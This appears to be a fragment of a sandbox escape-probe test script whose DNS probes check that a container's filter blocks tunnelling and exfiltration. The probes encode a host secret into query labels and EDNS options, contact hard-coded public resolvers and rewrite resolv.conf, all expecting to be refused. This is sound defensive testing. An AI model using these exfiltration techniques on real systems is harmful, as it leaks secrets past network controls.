# Part of the escape probe script: the files of tests/probes/ are
# concatenated in the order tests/src/escape.rs gives (common.py first).
# ------------------------------------------------------------------ DNS

if MODE == "main":
    for qtype in ["A", "AAAA", "TXT", "NULL", "CNAME", "MX", "ANY"]:
        probe(f"dns_tunnel_{qtype.lower()}")(
            lambda qtype=qtype: dns_blocked(tunnel_name("hex", qtype), qtype))

    for enc in ["hex", "base32", "base64"]:
        probe(f"dns_tunnel_{enc}_labels")(
            lambda enc=enc: dns_blocked(tunnel_name(enc, "e" + enc), "A"))

    @probe("dns_tunnel_tcp")
    def _():
        return dns_blocked(tunnel_name("hex", "tcp"), "A", tcp=True)

    @probe("dns_tunnel_tcp_txt")
    def _():
        return dns_blocked(tunnel_name("base32", "tcptxt"), "TXT", tcp=True)

    @probe("dns_baseline_allowed_name")
    def _():
        rcode, an, _ = dns_query("www.tunnel.bottle.test", "A")
        if rcode != "NOERROR" or an < 1:
            raise Refused(f"allowed name not answered: {rcode} {an}")
        return f"{rcode} {an}"

    @probe("dns_denied_name_nxdomain")
    def _():
        return dns_blocked("exfil-" + SECRET[:8].lower() + ".example.com", "A")

    @probe("dns_secret_in_labels")
    def _():
        # The host secret in labels short enough for the shape checks,
        # under an allowed wildcard, as it is and in lower case (a name's
        # case does not survive the trip upstream anyway).
        out = []
        for s in (SECRET, SECRET.lower()):
            labels = ".".join(s[i:i + 13] for i in range(0, len(s), 13))
            out.append(dns_blocked(f"{labels}.tunnel.bottle.test", "A"))
        return " ".join(out)

    @probe("dns_hardcoded_resolver_udp")
    def _():
        return expect_errno(udp_to(("8.8.8.8", 53), data=b"\0" * 12))

    @probe("dns_hardcoded_resolver_tcp")
    def _():
        return expect_errno(tcp_to(("1.1.1.1", 53)))

    @probe("dns_hardcoded_resolver_v6")
    def _():
        return expect_errno(udp_to(("2001:4860:4860::8888", 53), socket.AF_INET6, b"\0" * 12))

    @probe("dns_resolv_conf_rewritten")
    def _():
        old = open("/etc/resolv.conf").read()
        try:
            with open("/etc/resolv.conf", "w") as f:
                f.write("nameserver 8.8.8.8\nnameserver 1.1.1.1\n")
            try:
                socket.getaddrinfo("exfil-resolv.example.com", 443)
                raise Refused("denied name resolved after rewriting resolv.conf")
            except socket.gaierror as e:
                return f"gaierror {e.args[0]}"
        finally:
            with open("/etc/resolv.conf", "w") as f:
                f.write(old)

    @probe("dns_edns_option_payload")
    def _():
        # An allowed name with the secret in an EDNS option (code 65001) and
        # in a client-subnet option: answered, but the options never go
        # upstream (the host side checks the upstream's raw queries).
        payload = SECRET.encode()
        opts = struct.pack(">HH", 65001, len(payload)) + payload
        opts += struct.pack(">HHHBB", 8, 8, 1, 32, 0) + bytes([1, 2, 3, 4])
        rcode, an, _ = dns_query("edns.tunnel.bottle.test", "A", edns=opts)
        if rcode not in ("NOERROR", "FORMERR", "REFUSED"):
            raise Refused(f"unexpected {rcode}")
        return f"{rcode} {an}"

    @probe("dns_edns_tunnel_name")
    def _():
        return dns_blocked(tunnel_name("hex", "edns"), "A", edns=b"")

    @probe("dns_oversize_udp")
    def _():
        rcode, an, _ = dns_query(tunnel_name("hex", "big"), "A", pad=os.urandom(3000))
        if rcode not in ("FORMERR", "NXDOMAIN", "REFUSED") or an:
            raise Refused(f"oversize query answered {rcode} {an}")
        return rcode

    @probe("dns_oversize_name")
    def _():
        # 4 labels of 63 characters: over every length limit.
        name = ".".join(["a" * 63] * 3 + ["b" * 50]) + ".tunnel.bottle.test"
        name = name[-250:].lstrip(".")
        return dns_blocked(name, "A", allowed=("NXDOMAIN", "REFUSED", "FORMERR"))

    @probe("dns_deep_labels")
    def _():
        return dns_blocked("a.b.c.d.e.f.g.tunnel.bottle.test", "A")


